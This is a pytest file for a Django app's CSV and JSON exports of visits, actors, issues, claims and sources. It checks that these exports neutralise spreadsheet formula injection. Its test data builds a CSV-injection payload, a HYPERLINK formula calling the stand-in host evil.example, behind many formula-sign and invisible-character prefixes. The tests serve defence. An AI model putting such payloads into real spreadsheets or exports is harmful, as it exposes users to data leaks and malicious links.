"""Exports are safe in a spreadsheet: no cell starts a formula, and no value escapes its cell.

Every export (visits, actors, issues, claims, sources) is fed rows whose every text column holds
a hostile value: a formula sign first (= + - @ tab CR LF and their full-width forms), then
commas, quotes and line breaks. The CSV is parsed back with the csv module.
"""

import csv
import datetime
import io
import json

import pytest

from tests import factories
from tests.pages.test_views import body_of

pytestmark = pytest.mark.django_db

PREFIXES = [
    *("=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
    # A formula sign after what a spreadsheet may trim or pass over: spaces of every kind,
    # invisible characters (zero-width space, byte order mark), controls (VT, FF).
    *(" =", "   +", "\xa0=", "\u200b=", "\ufeff-", "\x0b@", "\x0c=", " \uff1d", "\u3000="),
]
#: What a spreadsheet may pass over before the first character it reads.
INVISIBLE = " \t\r\n\x0b\x0c\xa0\u200b\ufeff\u3000"
SIGNS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BENIGN = "Plain value"


def hostile(prefix, tag):
    """Return a value that a spreadsheet would run, which also tries to break out of its cell."""
    return f'{prefix}HYPERLINK("https://evil.example/{tag}","x"),{tag} "quoted"\r\nnext, line'


def values_for(prefix, index):
    """Return a function giving the value of a column (`tag`) of row `index`: hostile or plain."""
    if prefix:
        return lambda tag: hostile(prefix, f"{tag}{index}")
    return lambda tag: f"{BENIGN} {tag}"


def joined(names):
    """Return a multi-valued cell as the exports join it."""
    return "; ".join(sorted(names, key=str.casefold))


def risky(value):
    """Return whether a spreadsheet could run `value`: a control first, or a formula sign first
    once what it may pass over is passed over."""
    return value[:1] in ("\t", "\r", "\n", "\x0b", "\x0c") or value.lstrip(INVISIBLE).startswith(
        SIGNS
    )


def spreadsheet_safe(value):
    """Return what the CSV must hold for `value`: itself, after an apostrophe if it is risky."""
    return "'" + value if risky(value) else value


def export(client, path, fmt):
    response = client.get(path, {"format": fmt})
    assert response.status_code == 200
    return body_of(response)


def csv_rows(client, path):
    """Return the CSV export of `path` as dicts, checking every row has the header's columns."""
    rows = list(csv.reader(io.StringIO(export(client, path, "csv"), newline="")))
    header, records = rows[0], rows[1:]
    assert all(len(row) == len(header) for row in records)
    return [dict(zip(header, row, strict=True)) for row in records]


def check_export(client, path, expected, key):
    """Check the CSV and JSON exports of `path` hold `expected` ({key value: {column: value}})."""
    rows = {row[key]: row for row in csv_rows(client, path)}
    assert {str(value) for value in expected} <= set(rows)
    for key_value, columns in expected.items():
        row = rows[str(key_value)]
        for column, value in columns.items():
            assert row[column] == spreadsheet_safe(value), (path, column, repr(value))
    for row in rows.values():
        for column, cell in row.items():
            assert not risky(cell), (path, column, repr(cell))
    records = {
        str(record[key]): record for record in json.loads(export(client, path, "json"))["results"]
    }
    for key_value, columns in expected.items():
        record = records[str(key_value)]
        for column, value in columns.items():
            cell = record[column]
            if isinstance(cell, list):  # JSON keeps multi-valued cells as lists
                cell, value = joined(cell), joined(value.split("; "))
            assert cell == value, (path, column, repr(value))  # and values as they are


def country(name, slug):
    return factories.CountryFactory(name=name, slug=slug)


def test_every_text_column_of_the_visits_export_is_neutralised(client):
    expected = {}
    for index, prefix in enumerate([*PREFIXES, ""]):
        value = values_for(prefix, index)
        issues = [
            factories.IssueFactory(name=value("issue-a") + str(index), slug=f"a{index}"),
            factories.IssueFactory(name=value("issue-b") + str(index), slug=f"b{index}"),
        ]
        visit = factories.VisitFactory(
            slug=value("slug") + str(index),
            title=value("title"),
            visitor=factories.ActorFactory(name=value("visitor")),
            origin=country(value("origin") + str(index), f"origin-{index}"),
            destination=country(value("destination") + str(index), f"destination-{index}"),
            city=value("city"),
            summary=value("summary"),
            kind=f"{prefix}kind",
            date_precision=f"{prefix}d",
            issues=issues,
        )
        expected[f"http://testserver/visits/{visit.slug}/"] = {
            "slug": visit.slug,
            "title": visit.title,
            "visitor": visit.visitor.name,
            "origin": visit.origin.name,
            "destination": visit.destination.name,
            "city": visit.city,
            "start_date": "2019-07-21",
            "kind": visit.kind,
            "date_precision": visit.date_precision,
            "issues": joined(issue.name for issue in issues),
            "summary": visit.summary,
        }

    check_export(client, "/visits/", expected, key="url")


def test_every_text_column_of_the_actors_export_is_neutralised(client):
    expected = {}
    for index, prefix in enumerate([*PREFIXES, ""]):
        value = values_for(prefix, index)
        home = country(value("country") + str(index), f"home-{index}")
        actor = factories.ActorFactory(
            slug=value("slug") + str(index),
            name=value("name"),
            kind=f"{prefix}kind",
            country=home,
            description=value("description"),
        )
        aliases = [value("alias-a"), value("alias-b") + "2"]
        for alias in aliases:
            factories.ActorAliasFactory(actor=actor, name=alias)
        expected[f"http://testserver/actors/{actor.slug}/"] = {
            "slug": actor.slug,
            "name": actor.name,
            "kind": actor.kind,
            "country": home.name,
            "aliases": joined(aliases),
            "description": actor.description,
        }
        expected[f"http://testserver/actors/{home.slug}/"] = {"name": home.name}

    check_export(client, "/actors/", expected, key="url")


def test_every_text_column_of_the_issues_export_is_neutralised(client):
    expected = {}
    for index, prefix in enumerate([*PREFIXES, ""]):
        value = values_for(prefix, index)
        parent = factories.IssueFactory(
            name=value("parent") + str(index), slug=f"parent-{index}", description=""
        )
        issue = factories.IssueFactory(
            slug=value("slug") + str(index),
            name=value("name") + str(index),
            parent=parent,
            description=value("description"),
        )
        expected[f"http://testserver/issues/{issue.slug}/"] = {
            "slug": issue.slug,
            "name": issue.name,
            "parent": parent.name,
            "description": issue.description,
        }
        expected[f"http://testserver/issues/{parent.slug}/"] = {"name": parent.name}

    check_export(client, "/issues/", expected, key="url")


def test_every_text_column_of_the_claims_export_is_neutralised(client):
    expected = {}
    for index, prefix in enumerate([*PREFIXES, ""]):
        value = values_for(prefix, index)
        quote = value("quote")
        source = factories.SourceDocumentFactory(
            title=value("source-title"),
            publisher=value("publisher"),
            url=f'https://example.org/{index},"x"\n',
            body=f"Article {index}.\n\n{quote}\n\nThe end.",
        )
        actors = [factories.ActorFactory(name=value("about-a")), factories.ActorFactory(name="Z")]
        disputers = [factories.ActorFactory(name=value("disputer"))]
        issues = [factories.IssueFactory(name=value("issue") + str(index), slug=f"i{index}")]
        claim = factories.ClaimFactory(
            source=source,
            quote=quote,
            summary=value("summary"),
            kind=f"{prefix}kind",
            status=f"{prefix}status",
            speaker=factories.ActorFactory(name=value("speaker")),
            visit=factories.VisitFactory(title=value("visit")),
            actors=actors,
            issues=issues,
        )
        claim.disputed_by.add(*disputers)
        expected[claim.pk] = {
            "summary": claim.summary,
            "quote": quote,
            "kind": claim.kind,
            "status": claim.status,
            "speaker": claim.speaker.name,
            "actors": joined(actor.name for actor in actors),
            "issues": joined(issue.name for issue in issues),
            "visit": claim.visit.title,
            "source_title": source.title,
            "source_publisher": source.publisher,
            "source_date": "2019-07-24",
            "source_url": source.url,
            "disputed_by": joined(actor.name for actor in disputers),
        }

    check_export(client, "/claims/", expected, key="id")


def test_every_text_column_of_the_sources_export_is_neutralised(client):
    expected = {}
    for index, prefix in enumerate([*PREFIXES, ""]):
        value = values_for(prefix, index)
        # Authors are kept as one text separated by "; ": a hostile author holds no semicolon.
        authors = [value("author").replace(";", ""), "B. Writer"]
        issues = [factories.IssueFactory(name=value("issue") + str(index), slug=f"i{index}")]
        source = factories.SourceDocumentFactory(
            slug=value("slug") + str(index),
            title=value("title"),
            kind=f"{prefix}kind",
            publisher=value("publisher"),
            authors="; ".join(authors),
            published_date=datetime.date(2020, 1, 1 + index),
            language=f"{prefix}en",
            url=f'https://example.org/{index},"x"\n',
        )
        source.issues.add(*issues)
        expected[f"http://testserver/sources/{source.slug}/"] = {
            "slug": source.slug,
            "title": source.title,
            "kind": source.kind,
            "publisher": source.publisher,
            # Each author's name is trimmed: a tab or line break before it is dropped.
            "authors": "; ".join(author.strip() for author in authors),
            "published_date": f"2020-01-{1 + index:02d}",
            "language": source.language,
            "issues": joined(issue.name for issue in issues),
            "source_url": source.url,
        }

    check_export(client, "/sources/", expected, key="url")


def test_a_value_that_only_contains_a_formula_sign_later_is_left_alone(client):
    factories.VisitFactory(title="Talks on 1+1=2 and aid @ Davos", summary="A\tB")

    (row,) = csv_rows(client, "/visits/")

    assert row["title"] == "Talks on 1+1=2 and aid @ Davos"
    assert row["summary"] == "A\tB"
